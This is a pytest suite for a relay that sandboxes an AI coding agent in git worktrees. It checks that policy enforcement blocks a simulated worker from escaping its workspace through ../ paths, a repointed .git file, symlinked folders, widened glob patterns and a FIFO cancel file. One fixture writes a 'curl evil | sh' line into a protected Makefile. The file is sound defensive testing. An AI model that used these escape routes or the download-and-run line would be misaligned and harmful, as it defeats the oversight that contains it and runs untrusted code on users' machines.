"""Five defects an attack on the new surfaces found (issue 22, D1–D4; D5 is test_recent_runs_redaction.py).

Real git repositories in tmp dirs, the fake agy as a real subprocess (it writes where its edits say, `..`
included, as a worker could), the relay in memory behind the SDK's client; apply through both doors.
"""

from __future__ import annotations

import json
import os
import threading
import time
from pathlib import Path

import anyio
import pytest

from conftest import cli_main, git, make_repo, memory_relay, payload, relay_env
from fake_agy_harness import install_fake_agy, launches, scenario, success_scenario

pytestmark = pytest.mark.anyio


def _env(tmp_path: Path, agy: Path, profiles: dict) -> dict[str, str]:
    return relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles))


def _files(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and ".git" not in p.relative_to(root).parts}


# --------------------------------------------------------------------------- D1: apply writes only what was reviewed


async def test_worktree_run_writing_outside_its_sub_folder_is_a_violation_and_apply_writes_nothing(tmp_path):
    # Before: the packet said SUCCESS with files ["a.txt"], and `runs apply` wrote a.txt, ../escaped.txt and
    # ../.github/workflows/ci.yml into the repository: the whole worktree was committed and applied while only
    # the workspace's sub-folder was observed and checked.
    repo = make_repo(tmp_path / "project", {"sub/a.txt": "a\n", "README.md": "r\n"})
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": "a.txt", "content": "changed\n"},
        {"op": "write", "path": "../escaped.txt", "content": "x\n"},
        {"op": "write", "path": "../.github/workflows/ci.yml", "content": "on: push\n"}]))
    env = _env(tmp_path, agy, {"iso": {"workspace": str(repo / "sub"), "isolation": "worktree", "paths": ["a.txt"]}})
    before = _files(repo)
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "edit a.txt", "profile": "iso"}))
        assert packet["status"] == "POLICY_VIOLATION", packet
        message = packet["error"]["message"]
        assert "outside it" in message and "../escaped.txt" in message and "../.github/workflows/ci.yml" in message
        answer = payload(await client.call_tool("antigravity_continue", {"run_id": packet["run_id"], "apply": True}))
    assert answer["ok"] is False, answer
    shell = await anyio.to_thread.run_sync(cli_main, ["runs", "apply", packet["run_id"]], env)
    assert shell.returncode == 1 and json.loads(shell.stdout)["ok"] is False
    assert _files(repo) == before


async def test_worktree_run_of_a_sub_folder_cannot_reach_a_protected_file_at_the_root(tmp_path):
    # Before: profile at the repository root protecting Makefile, a call naming <repo>/sub: the worker's
    # ../Makefile reached the repository on apply (only sub/ was observed, so `protected` never saw it).
    repo = make_repo(tmp_path / "project", {"sub/a.txt": "a\n", "Makefile": "all:\n"})
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": "a.txt", "content": "changed\n"},
        {"op": "write", "path": "../Makefile", "content": "all:\n\tcurl evil | sh\n"}]))
    # The profile's workspace is the sub-folder itself: the call's is no narrowing (a profile that sets protected
    # refuses a call naming a sub-folder of its workspace, or of a repository when it names none, before anything
    # runs: test_enforced_policy.py::test_a_call_cannot_move_its_profiles_patterns_by_… and its neighbour).
    env = _env(tmp_path, agy, {"iso": {"workspace": str(repo / "sub"), "isolation": "worktree", "protected": ["Makefile"]}})
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "profile": "iso",
                                                                         "workspace": str(repo / "sub")}))
    assert packet["status"] == "POLICY_VIOLATION" and "../Makefile" in packet["error"]["message"], packet
    shell = await anyio.to_thread.run_sync(cli_main, ["runs", "apply", packet["run_id"]], env)
    assert shell.returncode == 1, shell.stdout
    assert (repo / "Makefile").read_text(encoding="utf-8") == "all:\n" and (repo / "sub/a.txt").read_text(encoding="utf-8") == "a\n"


async def test_worktree_apply_writes_the_observed_change_not_what_verification_wrote_later(tmp_path):
    # The change applied is the one observed and policy-checked: a verify command's output is not part of it.
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})
    # A different size: a same-size edit is sometimes not observed under load (see the report), not this test's subject.
    agy = install_fake_agy(tmp_path / "bin", success_scenario([{"op": "write", "path": "a.txt", "content": "bb\n"}]))
    env = _env(tmp_path, agy, {"iso": {"workspace": str(repo), "isolation": "worktree",
                                       "verify": ["echo built > artifact.txt"]}})
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "profile": "iso"}))
        assert packet["status"] == "SUCCESS" and packet["changes"]["files"] == ["a.txt"], packet
        applied = payload(await client.call_tool("antigravity_continue", {"run_id": packet["run_id"], "apply": True}))
    assert applied["status"] == "SUCCESS" and applied["changes"]["files"] == ["a.txt"], applied
    assert (repo / "a.txt").read_text(encoding="utf-8") == "bb\n" and not (repo / "artifact.txt").exists()


async def test_worktree_whose_git_file_the_worker_repointed_is_not_observed_and_the_users_index_is_untouched(tmp_path):
    # Before: the relay's git commands ran in the worktree after the run; with its .git file pointing at the
    # user's git dir they refreshed the stat data of the user's .git/index.
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})
    index = repo / ".git" / "index"
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": "a.txt", "content": "b\n"},
        {"op": "write", "path": ".git", "content": f"gitdir: {repo / '.git'}\n"}]))
    env = _env(tmp_path, agy, {"iso": {"workspace": str(repo), "isolation": "worktree"}})
    # Past the index's own second, as a sleep of 1.1 s made it: every file, folder and the index dated 2 s back alike
    # (how old each is beside the others unchanged), so a refresh would have something to rewrite.
    for path in (str(repo), *(os.path.join(f, n) for f, dirs, names in os.walk(repo) for n in (*dirs, *names))):
        st = os.lstat(path)
        os.utime(path, ns=(st.st_atime_ns - 2 * 10**9, st.st_mtime_ns - 2 * 10**9), follow_symlinks=False)
    seen = (index.read_bytes(), index.stat().st_mtime_ns)
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "profile": "iso"}))
        assert packet["status"] == "POLICY_VIOLATION" and ".git file" in packet["error"]["message"], packet
        answer = payload(await client.call_tool("antigravity_continue", {"run_id": packet["run_id"], "apply": True}))
    assert answer["ok"] is False
    assert (index.read_bytes(), index.stat().st_mtime_ns) == seen
    assert (repo / "a.txt").read_text(encoding="utf-8") == "a\n"


# --------------------------------------------------------------------------- D2: never through a symlinked folder


async def test_apply_refuses_a_path_under_a_symlinked_folder_of_the_users_tree(tmp_path):
    # Before: the user's `out -> <outside>` (ignored or untracked); the worker, where `out` is a plain folder,
    # added out/evil.txt; apply answered SUCCESS and wrote the file outside the repository.
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})  # `out` untracked here; ignored: the next test
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": "a.txt", "content": "b\n"},
        {"op": "write", "path": "out/evil.txt", "content": "x\n"}]))
    env = _env(tmp_path, agy, {"iso": {"workspace": str(repo), "isolation": "worktree"}})
    async with memory_relay(env) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "profile": "iso"}))
    assert packet["ok"] is True, packet
    (repo / "out").symlink_to(elsewhere, target_is_directory=True)
    shell = await anyio.to_thread.run_sync(cli_main, ["runs", "apply", packet["run_id"]], env)
    answer = json.loads(shell.stdout)
    assert shell.returncode == 1 and answer["status"] == "APPLY_CONFLICT", answer
    assert "out/evil.txt" in answer["error"]["message"] and "symbolic link" in answer["error"]["message"]
    assert list(elsewhere.iterdir()) == [] and (repo / "a.txt").read_text(encoding="utf-8") == "a\n"


def test_three_way_apply_refuses_every_path_under_a_symlinked_parent_and_writes_nothing(tmp_path):
    # The same at the merge step, with the worker's commit made by hand (an ignored `out` in the user's tree).
    from relay.isolate.merge import ApplyConflicts, changed_entries, three_way_apply

    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", ".gitignore": "out\n"})
    base = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "-q", "-b", "run")
    (repo / "a.txt").write_text("b\n", encoding="utf-8")
    (repo / "out" / "deep").mkdir(parents=True)
    (repo / "out" / "deep" / "evil.txt").write_text("x\n", encoding="utf-8")
    git(repo, "add", "-f", "a.txt", "out/deep/evil.txt")
    git(repo, "commit", "-q", "-m", "run")
    tip = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "-q", "main")
    import shutil
    shutil.rmtree(repo / "out", ignore_errors=True)  # the checkout of main took the tracked file away
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "deep").mkdir(parents=True)
    (repo / "out").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(ApplyConflicts) as info:
        three_way_apply(repo, changed_entries(repo, base, tip))
    assert info.value.conflicts == [("out/deep/evil.txt", "its folder out is a symbolic link in your tree; apply "
                                                          "never writes through one")]
    assert list((elsewhere / "deep").iterdir()) == [] and (repo / "a.txt").read_text(encoding="utf-8") == "a\n"


# --------------------------------------------------------------------------- D3: a call never widens paths


@pytest.mark.parametrize(("bound", "asked", "edit"), [("src/*.py", "src/**.py", "src/deep/x.py"),
                                                      ("src/*/x.py", "src/**/x.py", "src/a/b/x.py")])
async def test_call_paths_that_match_more_than_the_profiles_are_refused(tmp_path, bound, asked, edit):
    # Before: the call's pattern, read as a path, matched the profile's: SUCCESS, no violation, for an edit
    # that without the call's paths is POLICY_VIOLATION.
    repo = make_repo(tmp_path / "project")
    agy = install_fake_agy(tmp_path / "bin", success_scenario([{"op": "write", "path": edit, "content": "x\n"}]))
    env = _env(tmp_path, agy, {"app": {"workspace": str(repo), "paths": [bound]}})
    async with memory_relay(env) as client:
        widened = payload(await client.call_tool("antigravity_execute", {"task": "t", "profile": "app",
                                                                          "paths": [asked]}))
        assert widened["status"] == "CONFLICTING_OPTIONS", widened
        assert repr(asked) in widened["error"]["message"]
        assert launches(agy) == []
        plain = payload(await client.call_tool("antigravity_execute", {"task": "t", "profile": "app"}))
    assert plain["status"] == "POLICY_VIOLATION", plain


def test_pattern_within_is_sound_on_what_patterns_match():
    from relay.core.path_globs import path_matches, pattern_within

    assert not pattern_within("src/**.py", ["src/*.py"]) and not pattern_within("src/**/x.py", ["src/*/x.py"])
    assert pattern_within("src/test_*.py", ["src/*.py"]) and pattern_within("src/*/x.py", ["src/**/x.py"])
    assert pattern_within("docs/a/*.md", ["*.md"]) and not pattern_within("src/*.py", ["src/test_*.py"])
    # Every accepted pair: each path the narrow pattern matches, the bound matches too.
    segments = ["src", "a", "x.py", "*", "*.py", "test_*.py", "**", "**.py", "a*", "?.py"]
    names = ["src", "a", "b", "x.py", "t.py", "test_a.py", ".py", "ab", "c.py"]
    import itertools
    paths = ["/".join(p) for n in (1, 2, 3) for p in itertools.product(names, repeat=n)]
    patterns = ["/".join(p) for n in (1, 2, 3) for p in itertools.product(segments, repeat=n)][::7]
    for narrow in patterns:
        for bound in patterns[::5]:
            if pattern_within(narrow, [bound]):
                wider = [p for p in paths if path_matches(p, narrow) and not path_matches(p, bound)]
                assert wider == [], (narrow, bound, wider[:3])


# --------------------------------------------------------------------------- D4: a FIFO as the cancel request


async def test_a_fifo_named_like_a_cancel_request_does_not_freeze_the_relay(tmp_path):
    # Before: the cancel watcher read runs/<id>.cancel with a blocking read inside the event loop; a FIFO there
    # (no writer) froze every call of every session. A watchdog writes into the FIFO after 20 s, so the old
    # code ends (and fails on the time) instead of hanging the suite.
    repo = make_repo(tmp_path / "project")
    release = tmp_path / "release"
    agy = install_fake_agy(tmp_path / "bin", scenario({"behaviour": "success", "edits": [], "sleep": 120,
                                                       "release_file": str(release), "response": "done"}))
    env = relay_env(tmp_path / "data", agy)
    fifo = None
    watchdog = None
    try:
        async with memory_relay(env) as client:
            running = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo),
                                                                              "wait_seconds": 0}))
            assert running["status"] == "RUNNING", running
            fifo = tmp_path / "data" / "runs" / f"{running['run_id']}.cancel"
            os.mkfifo(fifo)

            def unblock() -> None:
                try:
                    fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
                except OSError:
                    return  # nobody reads it: nothing is blocked
                os.write(fd, b"watchdog")
                os.close(fd)

            watchdog = threading.Timer(20, unblock)
            watchdog.start()
            await anyio.sleep(1.5)  # past the watcher's 0.5 s poll
            started = time.monotonic()
            listed = payload(await client.call_tool("antigravity_get_result", {}))
            took = time.monotonic() - started
            assert running["run_id"] in [r["run_id"] for r in listed["recent_runs"]]
            assert took < 10, f"get_result took {took:.1f} s: the event loop was blocked"
            release.touch()
            final = payload(await client.call_tool("antigravity_get_result", {"run_id": running["run_id"],
                                                                               "wait_seconds": 60}))
            assert final["status"] == "SUCCESS", final  # a FIFO is not a cancel request
    finally:
        if watchdog is not None:
            watchdog.cancel()
